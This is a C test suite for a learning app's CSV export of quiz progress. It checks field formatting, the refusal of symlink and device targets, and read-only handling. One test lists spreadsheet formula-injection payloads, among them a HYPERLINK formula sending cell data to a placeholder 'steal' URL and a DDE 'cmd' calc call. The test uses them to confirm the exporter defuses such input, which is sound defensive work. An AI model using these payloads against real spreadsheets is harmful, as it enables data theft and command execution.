/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <sys/stat.h>
#include <unistd.h>

#include "ak-progress-export.h"
#include "ak-progress-store-private.h"
#include "progress-fixtures.h"

static void
test_export_csv (void)
{
  g_autofree char *path = data_path ("export.db");
  g_autofree char *csv = data_path ("export.csv");
  g_autofree char *folder = g_path_get_dirname (csv);
  g_autofree char *missing = data_path ("no-such-folder/export.csv");
  g_autofree char *files = NULL;
  g_autoptr(AkProgressStore) store = open_store (path);
  g_autoptr(AkCourse) a = progress_test_course_new ("a", 1, 1, 2);
  g_autoptr(AkCourse) b = progress_test_course_new ("b", 1, 1, 1);
  g_autoptr(GListStore) courses = g_list_store_new (AK_TYPE_COURSE);
  g_autoptr(GFile) file = g_file_new_for_path (csv);
  g_autoptr(GFile) missing_file = g_file_new_for_path (missing);
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GError) error = NULL;
  const char *tricky = "{\"text\":\"Grüße, \\\"Welt\\\"\nzweite Zeile\"}";
  const double scores[] = { 1.0, 0.25 };
  AkQuiz *quiz_a = quiz_at (a, 0);
  gint64 id;

  g_free (quiz_a->title);
  quiz_a->title = g_strdup ("Quiz \"Eins\", schwer");
  g_list_store_append (courses, a);
  ak_progress_store_set_display_name (store, "Erika Mustermann", &error);
  g_assert_no_error (error);

  ak_progress_store_set_now (store, local_time (10, 12, 0));
  take_quiz (store, a, quiz_a, scores, TRUE);
  id = ak_progress_store_start_attempt (store, "b", "quiz-1", "1.0", quiz_at (b, 0)->hash, NULL,
                                        &error);
  g_assert_no_error (error);
  ak_progress_store_record_answer (store, id, "q1-1", question_at (quiz_at (b, 0), 0)->hash,
                                   tricky, 2.0 / 3.0, 1234567.25, 1, &error);
  g_assert_no_error (error);
  ak_progress_store_start_attempt (store, "a", "quiz-1", "1.0", quiz_a->hash, NULL, &error);
  g_assert_no_error (error);

  ak_progress_store_export_csv (store, G_LIST_MODEL (courses), file, &error);
  g_assert_no_error (error);
  rows = read_csv (csv);
  /* header, two answers, one answer, one attempt without answers */
  g_assert_cmpuint (rows->len, ==, 5);
  g_assert_cmpstr (((char **)g_ptr_array_index (rows, 0))[0], ==, "learner");

  g_assert_cmpstr (field (rows, 1, "learner"), ==, "Erika Mustermann");
  g_assert_cmpstr (field (rows, 1, "course_title"), ==, "Kurs a");
  g_assert_cmpstr (field (rows, 1, "quiz_title"), ==, "Quiz \"Eins\", schwer");
  g_assert_cmpstr (field (rows, 1, "attempt_state"), ==, "finished");
  g_assert_cmpstr (field (rows, 1, "attempt_score"), ==, "1.25");
  g_assert_cmpstr (field (rows, 1, "attempt_max_score"), ==, "2");
  g_assert_cmpstr (field (rows, 1, "attempt_passed"), ==, "true");
  g_assert_cmpstr (field (rows, 1, "question_id"), ==, "q1-1");
  g_assert_cmpstr (field (rows, 1, "question_title"), ==, "Question 1 of quiz 1");
  g_assert_cmpstr (field (rows, 1, "question_version"), ==, "current");
  g_assert_cmpstr (field (rows, 1, "question_hash"), ==, question_at (quiz_a, 0)->hash);
  g_assert_cmpstr (field (rows, 1, "answer_score"), ==, "1");
  g_assert_cmpstr (field (rows, 1, "answer_seconds"), ==, "10");
  g_assert_true (g_str_has_prefix (field (rows, 1, "answered"), "2024-03-10T12:00:00"));
  g_assert_cmpstr (field (rows, 2, "question_id"), ==, "q1-2");
  g_assert_cmpstr (field (rows, 2, "answer_score"), ==, "0.25");

  /* Course b is not known: its ids stand in for the titles. */
  g_assert_cmpstr (field (rows, 3, "course_title"), ==, "b");
  g_assert_cmpstr (field (rows, 3, "quiz_title"), ==, "quiz-1");
  g_assert_cmpstr (field (rows, 3, "question_title"), ==, "q1-1");
  g_assert_cmpstr (field (rows, 3, "question_version"), ==, "unknown");
  g_assert_cmpstr (field (rows, 3, "response"), ==, tricky);
  /* Numbers in full, without an exponent, as a spreadsheet reads them. */
  g_assert_cmpstr (field (rows, 3, "answer_score"), ==, "0.6666666666666666");
  g_assert_cmpstr (field (rows, 3, "answer_seconds"), ==, "1234567.25");
  g_assert_cmpstr (field (rows, 3, "attempt_state"), ==, "in-progress");
  g_assert_cmpstr (field (rows, 3, "attempt_score"), ==, "");
  g_assert_cmpstr (field (rows, 3, "attempt_finished"), ==, "");

  g_assert_cmpstr (field (rows, 4, "attempt_state"), ==, "in-progress");
  g_assert_cmpstr (field (rows, 4, "question_id"), ==, "");
  g_assert_cmpstr (field (rows, 4, "response"), ==, "");
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* Exporting again replaces the file and leaves nothing else behind. */
  ak_progress_store_export_csv (store, NULL, file, &error);
  g_assert_no_error (error);
  rows = read_csv (csv);
  g_assert_cmpuint (rows->len, ==, 5);
  g_assert_cmpstr (field (rows, 1, "course_title"), ==, "a");
  files = list_folder (folder);
  g_assert_cmpstr (files, ==, "export.csv\nexport.db\nexport.db-shm\nexport.db-wal");
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* An empty first field keeps its place. */
  ak_progress_store_set_display_name (store, "", &error);
  g_assert_no_error (error);
  ak_progress_store_export_csv (store, NULL, file, &error);
  g_assert_no_error (error);
  rows = read_csv (csv);
  g_assert_cmpstr (field (rows, 1, "learner"), ==, "");
  g_assert_cmpstr (field (rows, 1, "course_id"), ==, "a");

  ak_progress_store_export_csv (store, NULL, missing_file, &error);
  g_assert_error (error, AK_PROGRESS_ERROR, AK_PROGRESS_ERROR_FAILED);
  g_assert_nonnull (strstr (error->message, missing));
  g_clear_pointer (&files, g_free);
  files = list_folder (folder);
  g_assert_cmpstr (files, ==, "export.csv\nexport.db\nexport.db-shm\nexport.db-wal");
}

static void
test_export_command (void)
{
  g_autofree char *csv = data_path ("command.csv");
  g_autofree char *missing = data_path ("no-such-folder/command.csv");
  g_autofree char *expected = NULL;
  g_autofree char *text = NULL;
  g_autoptr(AkProgressStore) store = open_store (NULL);
  g_autoptr(AkCourse) course = progress_test_course_new ("kurs", 1, 1, 3);
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GOutputStream) err = g_memory_output_stream_new_resizable ();
  g_autoptr(GPtrArray) rows = NULL;
  const double scores[] = { 1.0, 0.0, 1.0 };

  /* Progress at the default place, exported without a store at hand. */
  take_quiz (store, course, quiz_at (course, 0), scores, TRUE);
  g_clear_object (&store);

  g_assert_cmpint (ak_export_progress_command_run (csv, NULL, NULL, out, err), ==, 0);
  text = stream_text (err);
  g_assert_cmpstr (text, ==, "");
  g_clear_pointer (&text, g_free);
  text = stream_text (out);
  expected = g_strdup_printf ("Exported 3 answers to “%s”.\n", csv);
  g_assert_cmpstr (text, ==, expected);
  g_clear_pointer (&text, g_free);
  rows = read_csv (csv);
  g_assert_cmpuint (rows->len, ==, 4);

  g_clear_object (&out);
  out = g_memory_output_stream_new_resizable ();
  g_assert_cmpint (ak_export_progress_command_run (missing, NULL, NULL, out, err), ==, 1);
  text = stream_text (out);
  g_assert_cmpstr (text, ==, "");
  g_clear_pointer (&text, g_free);
  text = stream_text (err);
  g_assert_nonnull (strstr (text, missing));
  g_assert_false (g_file_test (missing, G_FILE_TEST_EXISTS));
  g_clear_pointer (&text, g_free);

  g_clear_object (&err);
  err = g_memory_output_stream_new_resizable ();
  g_assert_cmpint (ak_export_progress_command_run ("", NULL, NULL, out, err), ==, 1);
  text = stream_text (err);
  g_assert_nonnull (strstr (text, "--export-progress"));
}

static const char *const formula_payloads[] = {
  "=HYPERLINK(\"https://example.org/steal?\"&A1,\"Hier klicken\")",
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "=cmd|' /C calc'!A0",
};

/* Titles, names and answers a spreadsheet would run as formulas are
 * written as text; numbers stay numbers, a negative one too. */
static void
test_export_formulas (void)
{
  g_autofree char *path = data_path ("formulas.db");
  g_autofree char *csv = data_path ("formulas.csv");
  g_autofree char *text = NULL;
  g_autoptr(AkProgressStore) store = open_store (path);
  g_autoptr(AkCourse) course = progress_test_course_new ("kurs", 1, 1,
                                                         G_N_ELEMENTS (formula_payloads));
  g_autoptr(GListStore) courses = g_list_store_new (AK_TYPE_COURSE);
  g_autoptr(GFile) file = g_file_new_for_path (csv);
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GError) error = NULL;
  AkQuiz *quiz = quiz_at (course, 0);
  gint64 id;

  g_free (course->title);
  course->title = g_strdup (formula_payloads[0]);
  g_free (quiz->title);
  quiz->title = g_strdup (formula_payloads[1]);
  g_list_store_append (courses, course);
  ak_progress_store_set_display_name (store, formula_payloads[3], &error);
  g_assert_no_error (error);

  id = ak_progress_store_start_attempt (store, "kurs", quiz->id, "1.0", quiz->hash, NULL, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (formula_payloads); i++)
    {
      AkQuestion *question = question_at (quiz, i);

      progress_test_question_set_prompt (question, formula_payloads[i]);
      ak_progress_store_record_answer (store, id, question->id, question->hash,
                                       formula_payloads[i], 0.5, 3, i + 1, &error);
      g_assert_no_error (error);
    }
  g_clear_object (&store);
  /* Only a damaged database holds a negative time; it stays a number. */
  g_assert_cmpint (progress_test_query_int (path, "UPDATE answer SET seconds = -2.5 WHERE id = 1"
                                                  " RETURNING 0"), ==, 0);
  store = open_store (path);

  ak_progress_store_export_csv (store, G_LIST_MODEL (courses), file, &error);
  g_assert_no_error (error);
  rows = read_csv (csv);
  g_assert_cmpuint (rows->len, ==, 1 + G_N_ELEMENTS (formula_payloads));
  for (guint i = 0; i < G_N_ELEMENTS (formula_payloads); i++)
    {
      g_autofree char *guarded = g_strconcat ("'", formula_payloads[i], NULL);
      char **fields = g_ptr_array_index (rows, i + 1);

      g_assert_cmpstr (field (rows, i + 1, "question_title"), ==, guarded);
      g_assert_cmpstr (field (rows, i + 1, "response"), ==, guarded);
      g_assert_cmpstr (field (rows, i + 1, "answer_score"), ==, "0.5");
      for (guint j = 0; fields[j] != NULL; j++)
        if (fields[j][0] != '\0' && !g_str_equal (fields[j], "-2.5"))
          g_assert_null (strchr ("=+-@\t\r", fields[j][0]));
    }
  g_assert_cmpstr (field (rows, 1, "course_title"),
                   ==, "'=HYPERLINK(\"https://example.org/steal?\"&A1,\"Hier klicken\")");
  g_assert_cmpstr (field (rows, 1, "quiz_title"), ==, "'+1+1");
  g_assert_cmpstr (field (rows, 1, "learner"), ==, "'@SUM(A1)");
  g_assert_cmpstr (field (rows, 1, "answer_seconds"), ==, "-2.5");

  /* In the file, every guarded cell is quoted as well; the number is not. */
  g_assert_true (g_file_get_contents (csv, &text, NULL, NULL));
  g_assert_nonnull (strstr (text, ",\"'+1+1\","));
  g_assert_nonnull (strstr (text, ",\"'\t=1\","));
  g_assert_nonnull (strstr (text, ",\"'\r=1\","));
  g_assert_nonnull (strstr (text, ",\"'=cmd|' /C calc'!A0\","));
  g_assert_nonnull (strstr (text, ",-2.5,"));
}

/* Questions forgotten again and again are marked for the trainer, with
 * the section to reread; its title is guarded like any text. */
static void
test_export_difficult (void)
{
  g_autofree char *path = data_path ("difficult.db");
  g_autofree char *csv = data_path ("difficult.csv");
  g_autoptr(AkProgressStore) store = open_store (path);
  g_autoptr(AkCourse) course = progress_test_course_new ("kurs", 1, 1, 2);
  g_autoptr(GListStore) courses = g_list_store_new (AK_TYPE_COURSE);
  g_autoptr(GFile) file = g_file_new_for_path (csv);
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GError) error = NULL;
  AkQuiz *quiz = quiz_at (course, 0);
  AkLesson *lesson = g_ptr_array_index (ak_course_get_lessons (course), 0);
  AkSection *section = g_ptr_array_index (lesson->sections, 0);
  const double scores[2] = { 0, 1 };

  g_free (lesson->title);
  lesson->title = g_strdup ("=1+2");
  g_free (section->title);
  section->title = g_strdup ("Wer wählt was?");
  g_list_store_append (courses, course);

  ak_progress_store_set_now (store, local_time (1, 12, 0));
  take_quiz (store, course, quiz, scores, TRUE);
  for (int day = 2; day <= 5; day++)
    {
      ak_progress_store_set_now (store, local_time (day, 12, 0));
      ak_progress_store_record_practice_answer (store, "kurs", quiz->id, "q1-1",
                                                question_at (quiz, 0)->hash, "{}", 0, 3, &error);
      g_assert_no_error (error);
    }

  ak_progress_store_export_csv (store, G_LIST_MODEL (courses), file, &error);
  g_assert_no_error (error);
  rows = read_csv (csv);
  g_assert_cmpuint (rows->len, ==, 3);
  g_assert_cmpstr (field (rows, 1, "question_id"), ==, "q1-1");
  g_assert_cmpstr (field (rows, 1, "question_lapses"), ==, "4");
  g_assert_cmpstr (field (rows, 1, "question_difficult"), ==, "true");
  g_assert_cmpstr (field (rows, 1, "reread_lesson"), ==, "'=1+2");
  g_assert_cmpstr (field (rows, 1, "reread_section"), ==, "Wer wählt was?");
  g_assert_cmpstr (field (rows, 2, "question_id"), ==, "q1-2");
  g_assert_cmpstr (field (rows, 2, "question_lapses"), ==, "0");
  g_assert_cmpstr (field (rows, 2, "question_difficult"), ==, "false");
  g_assert_cmpstr (field (rows, 2, "reread_section"), ==, "");
}

/* A course title of megabytes is repeated on every row: it is cut. */
static void
test_export_long_title (void)
{
  g_autofree char *path = data_path ("long.db");
  g_autofree char *csv = data_path ("long.csv");
  g_autoptr(AkProgressStore) store = open_store (path);
  g_autoptr(AkCourse) course = progress_test_course_new ("kurs", 1, 1, 60);
  g_autoptr(GListStore) courses = g_list_store_new (AK_TYPE_COURSE);
  g_autoptr(GFile) file = g_file_new_for_path (csv);
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GError) error = NULL;
  GString *long_title = g_string_sized_new (7 * 1024 * 1024 + 8);
  double scores[60];
  const char *title;
  GStatBuf info;

  /* 7 MB: "x", then "ä" (two bytes each), so that a cut in the middle of
   * a character would show. */
  g_string_append_c (long_title, 'x');
  while (long_title->len < 7 * 1024 * 1024)
    g_string_append (long_title, "ä");
  g_free (course->title);
  course->title = g_string_free (long_title, FALSE);
  g_list_store_append (courses, course);
  for (guint i = 0; i < G_N_ELEMENTS (scores); i++)
    scores[i] = 1;
  take_quiz (store, course, quiz_at (course, 0), scores, TRUE);

  ak_progress_store_export_csv (store, G_LIST_MODEL (courses), file, &error);
  g_assert_no_error (error);
  g_assert_cmpint (g_stat (csv, &info), ==, 0);
  g_test_message ("CSV with a 7 MB title and 60 answers: %" G_GINT64_FORMAT " bytes",
                  (gint64)info.st_size);
  g_assert_cmpint (info.st_size, <, 60 * 4 * 1024);

  rows = read_csv (csv);
  g_assert_cmpuint (rows->len, ==, 61);
  title = field (rows, 1, "course_title");
  g_assert_cmpint (g_utf8_strlen (title, -1), ==, 1000);
  g_assert_true (g_str_has_prefix (title, "xää"));
  g_assert_true (g_str_has_suffix (title, "ää…"));
}

static mode_t
file_mode (const char *path)
{
  GStatBuf info;

  g_assert_cmpint (g_lstat (path, &info), ==, 0);
  return info.st_mode;
}

/* What is at the export's target decides how it is written: a regular
 * file is replaced and keeps its permissions, a new one gets the umask's,
 * anything else is refused and left alone; "-" is the standard output. */
static void
test_export_targets (void)
{
  g_autofree char *path = data_path ("targets.db");
  g_autofree char *folder = g_path_get_dirname (path);
  g_autofree char *private_csv = g_build_filename (folder, "private.csv", NULL);
  g_autofree char *new_csv = g_build_filename (folder, "new.csv", NULL);
  g_autofree char *link = g_build_filename (folder, "link.csv", NULL);
  g_autofree char *pointed = g_build_filename (folder, "pointed.txt", NULL);
  g_autofree char *fifo = g_build_filename (folder, "fifo.csv", NULL);
  g_autofree char *sub = g_build_filename (folder, "sub.csv", NULL);
  g_autofree char *files_before = NULL;
  g_autofree char *files_after = NULL;
  g_autofree char *text = NULL;
  g_autofree char *contents = NULL;
  g_autoptr(AkProgressStore) store = open_store (path);
  g_autoptr(AkCourse) course = progress_test_course_new ("kurs", 1, 1, 2);
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GOutputStream) err = g_memory_output_stream_new_resizable ();
  const double scores[] = { 1.0, 0.0 };
  const char *refused[] = { link, fifo, sub, "/dev/null" };
  g_auto(GStrv) lines = NULL;
  mode_t old_umask;

  take_quiz (store, course, quiz_at (course, 0), scores, TRUE);

  /* A private file stays private. */
  g_assert_true (g_file_set_contents_full (private_csv, "alt", -1, G_FILE_SET_CONTENTS_NONE,
                                           0600, NULL));
  g_assert_cmpint (g_chmod (private_csv, 0600), ==, 0);
  g_assert_cmpint (ak_export_progress_command_run (private_csv, store, NULL, out, err), ==, 0);
  g_assert_cmpint (file_mode (private_csv) & 07777, ==, 0600);
  g_assert_true (g_file_get_contents (private_csv, &contents, NULL, NULL));
  g_assert_true (g_str_has_prefix (contents, "learner,"));

  /* A new file gets what the umask allows. */
  old_umask = umask (027);
  g_assert_cmpint (ak_export_progress_command_run (new_csv, store, NULL, out, err), ==, 0);
  umask (old_umask);
  g_assert_cmpint (file_mode (new_csv) & 07777, ==, 0640);

  /* Links, pipes, folders and devices are refused, and stay as they are. */
  g_assert_true (g_file_set_contents (pointed, "nicht überschreiben", -1, NULL));
  g_assert_cmpint (symlink ("pointed.txt", link), ==, 0);
  g_assert_cmpint (mkfifo (fifo, 0600), ==, 0);
  g_assert_cmpint (g_mkdir (sub, 0700), ==, 0);
  files_before = list_folder (folder);
  for (guint i = 0; i < G_N_ELEMENTS (refused); i++)
    {
      g_clear_object (&err);
      err = g_memory_output_stream_new_resizable ();
      g_assert_cmpint (ak_export_progress_command_run (refused[i], store, NULL, out, err), ==, 1);
      g_clear_pointer (&text, g_free);
      text = stream_text (err);
      g_test_message ("%s", text);
      g_assert_nonnull (strstr (text, refused[i]));
    }
  g_assert_nonnull (strstr (text, "not a regular file"));
  files_after = list_folder (folder);
  g_assert_cmpstr (files_after, ==, files_before);
  g_assert_true (S_ISLNK (file_mode (link)));
  g_assert_true (S_ISFIFO (file_mode (fifo)));
  g_assert_true (S_ISDIR (file_mode (sub)));
  g_clear_pointer (&contents, g_free);
  g_assert_true (g_file_get_contents (pointed, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "nicht überschreiben");

  /* "-" is the standard output; the result goes to the error output. */
  g_clear_object (&out);
  g_clear_object (&err);
  out = g_memory_output_stream_new_resizable ();
  err = g_memory_output_stream_new_resizable ();
  g_assert_cmpint (ak_export_progress_command_run ("-", store, NULL, out, err), ==, 0);
  g_clear_pointer (&text, g_free);
  text = stream_text (out);
  g_assert_true (g_str_has_prefix (text, "learner,course_id,"));
  lines = g_strsplit (text, "\r\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, 4);
  g_clear_pointer (&text, g_free);
  text = stream_text (err);
  g_assert_cmpstr (text, ==, "Exported 2 answers to “-”.\n");
  g_assert_false (g_file_test ("-", G_FILE_TEST_EXISTS));
  g_clear_pointer (&files_after, g_free);
  files_after = list_folder (folder);
  g_assert_cmpstr (files_after, ==, files_before);
}

/* The export only reads: without a database it creates none, an older
 * one is read as it is, a damaged one is left where it is. */
static void
test_export_read_only (void)
{
  g_autofree char *default_path = ak_progress_store_get_default_path ();
  g_autofree char *default_folder = g_path_get_dirname (default_path);
  g_autofree char *csv = data_path ("read-only.csv");
  g_autofree char *text = NULL;
  g_autofree char *files_before = NULL;
  g_autofree char *files_after = NULL;
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GOutputStream) err = g_memory_output_stream_new_resizable ();
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GBytes) before = NULL;
  g_autoptr(GBytes) after = NULL;

  /* Nothing recorded yet: a file with its header, and no database. */
  g_assert_cmpint (ak_export_progress_command_run (csv, NULL, NULL, out, err), ==, 0);
  rows = read_csv (csv);
  g_assert_cmpuint (rows->len, ==, 1);
  g_assert_false (g_file_test (default_folder, G_FILE_TEST_EXISTS));
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* Version 1 is exported, not migrated. */
  g_assert_cmpint (g_mkdir_with_parents (default_folder, 0700), ==, 0);
  load_v1_fixture (default_path);
  before = read_bytes (default_path);
  files_before = list_folder (default_folder);
  g_assert_cmpint (ak_export_progress_command_run (csv, NULL, NULL, out, err), ==, 0);
  rows = read_csv (csv);
  g_assert_cmpuint (rows->len, ==, 1 + 5);
  g_assert_cmpstr (field (rows, 1, "learner"), ==, "Erika Mustermann");
  after = read_bytes (default_path);
  g_assert_true (g_bytes_equal (before, after));
  files_after = list_folder (default_folder);
  g_assert_cmpstr (files_after, ==, files_before);
  g_assert_cmpint (progress_test_query_int (default_path, "PRAGMA user_version"), ==, 1);
  g_clear_pointer (&before, g_bytes_unref);
  g_clear_pointer (&after, g_bytes_unref);
  g_clear_pointer (&files_after, g_free);

  /* A damaged database stays where it is, for the app to repair. */
  g_assert_true (g_file_set_contents (default_path, "kaputt, kaputt, kaputt", -1, NULL));
  before = read_bytes (default_path);
  g_assert_cmpint (ak_export_progress_command_run (csv, NULL, NULL, out, err), ==, 1);
  text = stream_text (err);
  g_assert_nonnull (strstr (text, "damaged"));
  g_assert_nonnull (strstr (text, default_path));
  after = read_bytes (default_path);
  g_assert_true (g_bytes_equal (before, after));
  files_after = list_folder (default_folder);
  g_assert_cmpstr (files_after, ==, files_before);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/progress/export/csv", test_export_csv);
  g_test_add_func ("/progress/export/command", test_export_command);
  g_test_add_func ("/progress/export/formulas", test_export_formulas);
  g_test_add_func ("/progress/export/long-title", test_export_long_title);
  g_test_add_func ("/progress/export/difficult", test_export_difficult);
  g_test_add_func ("/progress/export/targets", test_export_targets);
  g_test_add_func ("/progress/export/read-only", test_export_read_only);

  return g_test_run ();
}
